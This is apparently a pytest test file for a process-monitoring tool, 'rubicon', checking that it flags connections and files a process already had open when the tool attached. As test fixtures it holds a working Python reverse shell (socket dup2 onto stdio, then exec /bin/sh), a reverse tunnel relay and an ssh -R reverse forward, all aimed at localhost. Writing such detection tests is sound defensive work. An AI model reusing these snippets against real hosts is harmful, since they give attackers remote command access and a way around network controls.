"""`rubicon attach` to what had crossed the line before: it is told at once, as what it is."""

from __future__ import annotations

import socket
import subprocess
from collections.abc import Iterator

import pytest

from .conftest import Spawn
from .driver import PYTHON, Rubicon, until
from .test_attach import attach

STANDING = "; it was already open when the watch began"


@pytest.fixture
def outside() -> Iterator[socket.socket]:
    """Whoever waits at the other end of the tunnel; it says nothing."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(20)
        yield server


def policy(rubicon: Rubicon, text: str) -> tuple[str, ...]:
    return ("--policy", str(rubicon.policy(text)))


TUNNEL = """
import os, socket, sys
inside = socket.create_server(("127.0.0.1", 0))
tunnel = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
near = socket.create_connection(inside.getsockname())
log = open(sys.argv[2], "w")
print(flush=True)
while data := tunnel.recv(100):
    near.sendall(data)
    log.write("x"); log.flush()
"""


def test_a_reverse_tunnel(spawn: Spawn, rubicon: Rubicon, outside: socket.socket) -> None:
    """A program that passes what comes from outside on to a service inside, and keeps a log."""
    port = outside.getsockname()[1]
    log = rubicon.work / "log"
    program = spawn(PYTHON, "-I", "-S", "-c", TUNNEL, str(port), log, stdout=subprocess.PIPE)
    far, _ = outside.accept()
    assert program.stdout
    program.stdout.readline()
    options = policy(rubicon, "network: {connect: ['unix:/**']}\nfiles: {write: [/nowhere/**]}\n")
    with far:
        started = attach(rubicon, f"pid:{program.pid}", options=options)
        said = started.says(f"is connected to 127.0.0.1:{port}, which the policy does not allow{STANDING}")
        assert f"has {log} open for writing, which the policy does not allow{STANDING}" in said
        far.sendall(b"in")
        far.recv(0)
    assert program.wait() == 0
    assert started.end() == 0
    assert ", 3 violations, 0 lost; trace " in started.err.splitlines()[-1]

    events = rubicon.events()
    states = [each for each in events if each["event"]["kind"] == "state"]
    assert sorted(each["event"]["action"] for each in states) == [
        "connect",
        "connect",
        "exec",
        "file_write",
        "listen",
    ]
    tunnel = next(each for each in states if each.get("destination", {}).get("port") == port)
    assert tunnel["source"]["ip"] == tunnel["destination"]["ip"] == "127.0.0.1"
    assert [each["rubicon"]["file"]["inherited"] for each in states if "file" in each] == [True]
    rest = [each for each in events if each["event"]["kind"] == "event"]
    assert not [each for each in rest if each["event"]["action"] in ("connect", "file_write")]
    (flow,) = [
        each for each in rest if each["event"]["action"] == "flow" and each["destination"]["port"] == port
    ]
    assert flow["source"]["bytes"] == 0
    assert flow["destination"]["bytes"] == 2


def test_ssh(spawn: Spawn, rubicon: Rubicon, outside: socket.socket) -> None:
    """By its arguments, and by where its connection goes."""
    port = outside.getsockname()[1]
    options = (
        "-F",
        "none",
        "-o",
        "StrictHostKeyChecking=no",
        "-p",
        str(port),
        "-N",
        "-R",
        "2222:localhost:22",
    )
    program = spawn("/usr/bin/ssh", *options, "nobody@127.0.0.1", stderr=subprocess.DEVNULL)
    far, _ = outside.accept()
    with far:
        far.recv(100)  # the line it begins with: it is connected
        started = attach(rubicon, f"pid:{program.pid}")
        started.says("opened a reverse tunnel: ")
        started.says(f"has an SSH connection to an unusual port: 127.0.0.1:{port}{STANDING}")
    program.wait()
    started.end()


SHELL = """
import os, socket, sys
tunnel = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in range(3): os.dup2(tunnel.fileno(), fd)
os.execv("/bin/sh", ["sh"])
"""


def test_a_reverse_shell(spawn: Spawn, rubicon: Rubicon, outside: socket.socket) -> None:
    program = spawn(PYTHON, "-I", "-S", "-c", SHELL, str(outside.getsockname()[1]))
    far, _ = outside.accept()
    with far:
        far.sendall(b"echo ready\n")
        assert far.recv(100) == b"ready\n"
        started = attach(rubicon, f"pid:{program.pid}")
        started.says("is a shell that takes its commands from the network")
    program.wait()
    started.end()


def test_what_it_wrote_before_is_its_own_business(spawn: Spawn, rubicon: Rubicon) -> None:
    """Where its standard output goes was the choice of who started it; what it has closed is past."""
    with open(rubicon.work / "out", "w") as out:
        program = spawn("/bin/sh", "-c", f"echo x >{rubicon.work}/closed; echo; read line", stdout=out)
    until((rubicon.work / "out").read_text, "its output")
    started = attach(rubicon, f"pid:{program.pid}", options=policy(rubicon, "files: {write: []}\n"))
    assert program.stdin
    program.stdin.close()
    program.wait()
    assert started.end() == 0
    assert ", 0 violations, 0 lost; trace " in started.err.splitlines()[-1]
    (found,) = rubicon.events().of("file_write")
    assert (found["event"]["kind"], found["file"]["path"]) == ("state", f"{rubicon.work}/out")
